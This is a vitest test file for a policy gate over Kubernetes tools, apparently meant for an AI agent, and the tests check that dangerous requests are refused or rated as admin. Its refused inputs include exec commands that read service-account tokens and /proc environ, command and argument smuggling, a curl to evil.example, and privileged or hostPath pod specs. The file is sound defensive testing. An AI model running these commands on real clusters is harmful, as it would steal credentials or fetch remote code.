/** Facts of the Kubernetes tools: what a request is at the API, how far it reaches, and what is for nobody. */
import { existsSync, readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { GateError } from '../../src/errors.ts'
import { kubeFamily } from '../../src/tools/kube/index.ts'
import type { BaseFacts, KubernetesTarget, Look } from '../../src/types.ts'
import { callOf } from '../corpus/kubectl.js'
import { lookOn } from './catalogue.ts'
import { targetOf } from './support.ts'

const kubeconfig = JSON.stringify({
  clusters: [{ name: 'c', cluster: { server: 'https://127.0.0.1:1' } }],
  users: [{ name: 'u', user: { token: 't' } }],
  contexts: [{ name: 'x', context: { cluster: 'c', user: 'u', namespace: 'prod' } }],
  'current-context': 'x',
})
const { tools } = kubeFamily()
const factsOf = async (
  name: string,
  input: Record<string, unknown>,
  over: Partial<KubernetesTarget> = {},
): Promise<BaseFacts> => {
  const tool = tools.find((one) => one.name === name)
  if (!tool) throw new Error(name)
  const parsed = tool.input.safeParse({ target: 'main', ...input })
  if (!parsed.success) throw new GateError('INPUT_REFUSED', 'by the schema')
  return tool.facts(parsed.data, lookOn(targetOf(kubeconfig, over)) as Look)
}
const codeOf = (
  name: string,
  input: Record<string, unknown>,
  over: Partial<KubernetesTarget> = {},
): Promise<string> =>
  factsOf(name, input, over).then(
    ({ effect }) => effect,
    (thrown: unknown) => (thrown instanceof GateError ? thrown.code : String(thrown)),
  )
const apply = (manifest: string, more: Record<string, unknown> = {}) =>
  codeOf('kube_change', { action: 'apply', manifest, ...more })

describe('a request is what it is at the API', () => {
  test.each([
    ['po', {}, { verb: 'list', group: '', resource: 'pods', namespace: 'prod', name: '' }],
    ['Pod', { name: 'web-0' }, { verb: 'get', resource: 'pods', name: 'web-0' }],
    [
      'deploy',
      { namespace: 'shop' },
      { group: 'apps', resource: 'deployments', namespace: 'shop' },
    ],
    ['deployments.v1.apps', {}, { group: 'apps', resource: 'deployments' }],
    ['pods.metrics.k8s.io', {}, { group: 'metrics.k8s.io', resource: 'pods' }],
    ['events', {}, { group: '' }],
    ['events.events.k8s.io', {}, { group: 'events.k8s.io' }],
    ['node', { name: 'n1' }, { namespace: '', name: 'n1' }],
    [
      'secrets',
      { all_namespaces: true },
      { resource: 'secrets', namespace: '', all_namespaces: true },
    ],
    ['clusterrole', { name: 'system:node' }, { name: 'system:node' }],
    ['health', {}, { resource: 'health', namespace: '' }],
    ['access', {}, { resource: 'access', namespace: 'prod' }],
  ])('kube_get %s %j', async (resource, more, expected) => {
    const facts = await factsOf('kube_get', { resource, ...more })
    expect(facts).toMatchObject({ effect: 'read', policy: expected })
  })

  test('logs, exec and changes', async () => {
    expect((await factsOf('kube_logs', { namespace: 'prod', pod: 'web-0' })).policy).toMatchObject({
      verb: 'get',
      resource: 'pods',
      subresource: 'log',
      name: 'web-0',
      secrets_unknown: false,
    })
    expect(
      (await factsOf('kube_logs', { namespace: 'shop', pod: 'pod/web-0' })).policy,
    ).toMatchObject({ name: 'web-0', secrets_unknown: true })
    expect((await factsOf('kube_logs', { namespace: 'prod', pod: 'deploy/web' })).policy.name).toBe(
      'deployments.apps/web',
    )
    const exec = await factsOf('kube_exec', {
      namespace: 'prod',
      pod: 'web-0',
      argv: ['sh', '-c', 'cat /srv/a | sort > /srv/b'],
    })
    expect(exec).toMatchObject({
      effect: 'write',
      policy: {
        verb: 'create',
        subresource: 'exec',
        programs: ['sh', 'cat', 'sort'],
        writes_paths: ['/srv/b'],
      },
    })
    // What a command names may be a secret: the log's header holds names only.
    expect(exec.names).not.toHaveProperty('paths')
    expect(
      (await factsOf('kube_change', { action: 'scale', resource: 'sts', name: 'a', replicas: 2 }))
        .policy,
    ).toMatchObject({
      verb: 'patch',
      group: 'apps',
      resource: 'statefulsets',
      subresource: 'scale',
    })
    expect(
      (await factsOf('kube_change', { action: 'delete', resource: 'po', name: 'a' })).policy,
    ).toMatchObject({ verb: 'delete', resource: 'pods' })
  })
})

describe('what is refused for everybody', () => {
  test.each([
    { resource: 'pods/exec' },
    { resource: 'pods/web-0/proxy' },
    { resource: 'secrets,pods' },
    { resource: '/api/v1/secrets' },
    { resource: '../../secrets' },
    { resource: 'pods?watch=1' },
    { resource: 'pods%2flog' },
    { resource: '' },
    { resource: 'p\u200bods' },
    { resource: 'pods', name: '../secrets/db' },
    { resource: 'pods', name: 'web-0/log' },
    { resource: 'pods', name: 'web\u20100' },
    { resource: 'pods', name: '..' },
    { resource: 'pods', name: 'Web' },
    { resource: 'pods', name: '' },
    { resource: 'pods', name: 'a'.repeat(254) },
    { resource: 'pods', namespace: '../kube-system' },
    { resource: 'pods', namespace: 'kube-system/pods' },
    { resource: 'pods', namespace: 'a.b' },
    { resource: 'clusterroles', name: '..' },
    { resource: 'clusterroles', name: 'a/b' },
    { resource: 'clusterroles', name: 'a%2fb' },
    { resource: 'bindings' },
    { resource: 'pods', name: 'a', all_namespaces: true },
    { resource: 'pods', namespace: 'a', all_namespaces: true },
    { resource: 'pods', fields: ['{range .items[*]}'] },
    { resource: 'pods', fields: ['spec[?(@.a)]'] },
    { resource: 'pods', fields: [''] },
    { resource: 'pods', fields: ['a'], format: 'yaml' },
    { resource: 'pods', limit: 0 },
    { resource: 'pods', kubeconfig: '/tmp/evil' },
  ])('kube_get %j', async (input) => {
    expect(await codeOf('kube_get', input)).toBe('INPUT_REFUSED')
  })

  test.each([
    { argv: 'ls; id' },
    { argv: [] },
    { argv: [''] },
    { argv: ['-c', 'ls'] },
    { argv: ['sh'] },
    { argv: ['/bin/bash', '-i'] },
    { argv: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'] },
    { argv: ['cat', '/run/secrets/kubernetes.io/serviceaccount/../serviceaccount/token'] },
    { argv: ['sh', '-c', 'cat /proc/self/environ'] },
    { argv: ['cat', '/proc/1/environ'] },
    { argv: ['bash', '-c', 'ls $(curl -s http://evil.example)'] },
    { argv: ['ls'], pod: '--kubeconfig=/tmp/x' },
    { argv: ['ls'], pod: 'web-0?x' },
    { argv: ['ls'], namespace: '..' },
    { argv: ['ls'], container: '../x' },
    { argv: ['ls'], tty: true },
    { argv: ['echo', 'é'.repeat(20_000)] },
  ])('kube_exec %j', async (input) => {
    expect(await codeOf('kube_exec', { namespace: 'prod', pod: 'web-0', ...input })).toMatch(
      /^(INPUT_REFUSED|SYNTAX_ERROR)$/,
    )
  })

  test.each([
    ['no YAML', 'a: [', 'SYNTAX_ERROR'],
    ['a path', '/etc/passwd', 'INPUT_REFUSED'],
    ['nothing', '\n---\n', 'INPUT_REFUSED'],
    [
      'two objects',
      'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: b}',
      'INPUT_REFUSED',
    ],
    ['a list', 'apiVersion: v1\nkind: List\nmetadata: {name: a}\nitems: []', 'INPUT_REFUSED'],
    [
      'aliases',
      `a: &a [x]\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {b: *a}`,
      'SYNTAX_ERROR',
    ],
    ['depth of brackets', '['.repeat(50_000), 'SYNTAX_ERROR'],
    ['depth of brackets with quoted ends', '["]",'.repeat(50_000), 'SYNTAX_ERROR'],
    ['depth of braces', '{a: '.repeat(50_000), 'SYNTAX_ERROR'],
    ['depth of dashes', '- '.repeat(50_000), 'SYNTAX_ERROR'],
    ['depth of questions', '? '.repeat(50_000), 'SYNTAX_ERROR'],
    [
      'depth of lines',
      Array.from({ length: 900 }, (_, i) => `${' '.repeat(i)}a:`).join('\n'),
      'SYNTAX_ERROR',
    ],
    [
      'depth of dashed lines',
      Array.from({ length: 90 }, (_, i) => `${' '.repeat(i * 100)}${'- '.repeat(50)}`).join('\n'),
      'SYNTAX_ERROR',
    ],
    [
      'a key twice',
      'apiVersion: v1\nkind: ConfigMap\nkind: Secret\nmetadata: {name: a}',
      'SYNTAX_ERROR',
    ],
    [
      'a generated name',
      'apiVersion: v1\nkind: ConfigMap\nmetadata: {generateName: a}',
      'INPUT_REFUSED',
    ],
    [
      'a name that is a path',
      'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ../a}',
      'INPUT_REFUSED',
    ],
    [
      'a version that is a path',
      'apiVersion: ../v1\nkind: ConfigMap\nmetadata: {name: a}',
      'INPUT_REFUSED',
    ],
    ['an unknown kind', 'apiVersion: v1\nkind: ConfigMop\nmetadata: {name: a}', 'INPUT_REFUSED'],
    [
      'an action that is no apply',
      'apiVersion: v1\nkind: Binding\nmetadata: {name: a}',
      'INPUT_REFUSED',
    ],
  ])('a manifest that is %s', async (_name, manifest, expected) => {
    expect(await apply(manifest)).toBe(expected)
  })

  test('text inside a manifest may look like anything', async () => {
    const lines = [`${'-'.repeat(300)}`, `${' '.repeat(300)}x`, '['.repeat(300), '# [[['].map(
      (line) => `    ${line}`,
    )
    expect(
      await apply(
        `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata:\n  text: |\n${lines.join('\n')}\n  quoted: "${'{'.repeat(300)}"\n`,
      ),
    ).toBe('write')
  })

  test.each([
    { action: 'delete', resource: 'pods' },
    { action: 'delete', name: 'a' },
    { action: 'scale', resource: 'deploy', name: 'a' },
    { action: 'scale', resource: 'pods', name: 'a', replicas: 1 },
    { action: 'restart', resource: 'pods', name: 'a' },
    { action: 'delete', resource: 'po', name: 'a', replicas: 0 },
    { action: 'delete', resource: 'po', name: 'a', manifest: 'a' },
    { action: 'apply' },
    { action: 'apply', resource: 'po', name: 'a', manifest: 'a' },
    { action: 'delete', resource: 'nodes', name: 'a', namespace: 'prod' },
    { action: 'drain', resource: 'nodes', name: 'a' },
  ])('kube_change %j', async (input) => {
    expect(await codeOf('kube_change', input)).toBe('INPUT_REFUSED')
  })

  test('namespaces that the target does not open', async () => {
    const some = { namespaces: ['prod'] }
    expect(await codeOf('kube_get', { resource: 'pods', namespace: 'shop' }, some)).toBe(
      'NOT_ALLOWED',
    )
    expect(await codeOf('kube_get', { resource: 'pods' }, { namespaces: ['shop'] })).toBe(
      'NOT_ALLOWED',
    )
    expect(await codeOf('kube_get', { resource: 'nodes' }, some)).toBe('NOT_ALLOWED')
    expect(await codeOf('kube_get', { resource: 'namespaces', name: 'prod' }, some)).toBe('read')
    expect(
      await codeOf(
        'kube_change',
        {
          action: 'apply',
          manifest: 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: shop}',
        },
        some,
      ),
    ).toBe('NOT_ALLOWED')
    expect(await codeOf('kube_exec', { namespace: 'shop', pod: 'a', argv: ['ls'] }, some)).toBe(
      'NOT_ALLOWED',
    )
  })
})

describe('how far a change reaches', () => {
  const object = (apiVersion: string, kind: string, more: Record<string, unknown> = {}): string =>
    JSON.stringify({ apiVersion, kind, metadata: { name: 'a' }, ...more })
  const pod = (spec: Record<string, unknown>): string =>
    object('apps/v1', 'Deployment', { spec: { template: { spec } } })

  test.each([
    [object('v1', 'ConfigMap'), 'write'],
    [object('v1', 'Secret', { stringData: { a: 'b' } }), 'write'],
    [object('v1', 'Secret', { type: 'kubernetes.io/service-account-token' }), 'admin'],
    [object('v1', 'Node'), 'admin'],
    [object('v1', 'Namespace'), 'admin'],
    [object('v1', 'ServiceAccount'), 'admin'],
    [object('v1', 'ResourceQuota'), 'admin'],
    [object('networking.k8s.io/v1', 'NetworkPolicy'), 'admin'],
    [object('rbac.authorization.k8s.io/v1', 'RoleBinding'), 'admin'],
    [object('rbac.authorization.k8s.io/v1', 'ClusterRoleBinding'), 'admin'],
    [object('certificates.k8s.io/v1', 'CertificateSigningRequest'), 'admin'],
    [pod({ containers: [{ name: 'a', image: 'b' }] }), 'write'],
    [pod({ hostNetwork: true }), 'admin'],
    [pod({ containers: [{ name: 'a', securityContext: { privileged: true } }] }), 'admin'],
    [
      pod({
        containers: [
          { name: 'a', securityContext: { privileged: false, capabilities: { drop: ['ALL'] } } },
        ],
      }),
      'write',
    ],
    [
      pod({
        containers: [{ name: 'a', securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }],
      }),
      'admin',
    ],
    [pod({ volumes: [{ name: 'a', hostPath: { path: '/' } }] }), 'admin'],
  ])('apply %s', async (manifest, expected) => {
    expect(await apply(manifest)).toBe(expected)
    expect(await apply(manifest, { dry_run: true })).toBe('read')
  })

  test('what the cluster itself lives in', async () => {
    expect(await apply(object('v1', 'ConfigMap'), { namespace: 'kube-system' })).toBe('admin')
    expect(
      await codeOf('kube_change', {
        action: 'scale',
        resource: 'deploy',
        name: 'coredns',
        namespace: 'kube-system',
        replicas: 0,
      }),
    ).toBe('admin')
    expect(
      await codeOf('kube_change', {
        action: 'scale',
        resource: 'deploy',
        name: 'web',
        replicas: 0,
      }),
    ).toBe('write')
    expect(await codeOf('kube_change', { action: 'delete', resource: 'ns', name: 'prod' })).toBe(
      'admin',
    )
  })
})

const corpus = new URL('../../../shared/corpus/attacks.json', import.meta.url)
describe.skipIf(!existsSync(corpus))('the corpus', () => {
  interface Case {
    readonly id: string
    readonly tool: string
    readonly input: string
    readonly expect: string
    readonly also_ok?: readonly string[]
  }
  const cases = existsSync(corpus)
    ? (JSON.parse(readFileSync(corpus, 'utf8')) as Case[]).filter(({ tool }) => tool === 'kube')
    : []

  test.each(cases.map((one) => [one.id, one] as const))('%s', async (_id, one) => {
    const call = callOf(one.input) as {
      tool: string
      args?: Record<string, unknown>
      known?: boolean
    }
    const verdict = async (): Promise<string> => {
      if (call.args === undefined) return call.known ? 'inexpressible' : 'deny'
      // There is no CRD in the small catalogue but the kind itself.
      const facts = await factsOf(call.tool, call.args).catch((thrown: unknown) => thrown)
      if (!(typeof facts === 'object' && facts !== null && 'effect' in facts)) return 'deny'
      const { effect, policy } = facts as BaseFacts
      // The policy that the corpus assumes: reads but for Secrets; changes wait.
      if (policy.resource === 'secrets') return 'deny'
      return effect === 'read' ? 'allow' : 'hold'
    }
    const got = await verdict()
    if (one.expect === 'allow') expect(got, one.input).toMatch(/^(allow|inexpressible)$/)
    else if (!one.also_ok?.includes('allow-masked')) expect(got, one.input).toMatch(/^(deny|hold)$/)
  })
})
